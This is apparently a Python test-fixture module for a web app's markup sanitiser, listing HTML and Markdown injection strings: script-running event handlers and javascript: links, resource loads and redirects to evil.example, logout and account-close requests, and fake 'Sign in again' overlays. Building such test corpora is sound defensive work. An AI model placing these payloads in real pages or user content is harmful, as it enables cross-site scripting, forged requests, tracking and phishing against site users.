"""What a text could do to the page that shows it: our own attacks, and those of others where ../shared/data is at hand.

Each of our own says `alert` where it would run, names evil.example where it would fetch or lead away, and signs out
where it would act by a request.
"""

import json
from pathlib import Path

from tests.markup.payloads import OWN, payloads

_NAUGHTY = Path(__file__).parents[3] / "shared" / "data" / "strings" / "blns.json"

PAGES = [
    # runs
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<form id=forms><input name=attributes><button formaction='javascript:alert(1)'>x</button></form>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "[x](https://a.example){onclick=alert(1)}",
    '[x](<https://a.example" onfocus="alert(1)" autofocus=">)',
    '<https://a.example/"onmouseover=alert(1)//>',
    "```x onclick=alert(1)\nx\n```",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "]]><script>alert(1)</script><!--",
    "</title></textarea></script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</script><svg/onload=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    # leads away or fetches
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<video poster=//evil.example/x autoplay src=//evil.example/x></video>",
    "<img srcset='//evil.example/x 2x'><picture><source srcset=//evil.example/y></picture>",
    "<input type=image src=//evil.example/x>",
    "<table background=//evil.example/x><tr><td>x</td></tr></table>",
    "<a href=https://a.example ping=//evil.example/x>x</a>",
    "![x](//evil.example/x.png)\n\n![y][r]\n\n[r]: https://evil.example/y.png",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>",
    "<svg><image href=//evil.example/x /></svg><svg><feImage href=//evil.example/y /></svg>",
    # acts by a request to the site itself
    "<img src=/accounts/logout/>",
    "![x](/accounts/logout/)",
    "<iframe src=/account/close/></iframe>",
    "<script src=/search/?q=alert(1)></script>",
    # covers the page
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Sign in again</div>",
    "<dialog open style='position:fixed;top:0'>Sign in again</dialog>",
    "<style>body>header{display:none}main{position:fixed;top:0;z-index:9999}</style>",
    "<p class='skip vh' id=main role=banner>x</p>",
    "</main></body><header>Another</header>",
    "<base target=_blank href=//evil.example/>",
]
"""What only shows in a page."""


def attacks() -> list[str]:
    """Each for a text of its own."""
    return [*PAGES, *payloads()]


def own_attacks() -> list[str]:
    """Those that need nothing beside the repository."""
    return [*PAGES, *OWN]


def naughty() -> list[str]:
    """Strings that break carelessly made pages; of them only what is at hand."""
    return json.loads(_NAUGHTY.read_text("utf-8")) if _NAUGHTY.exists() else []
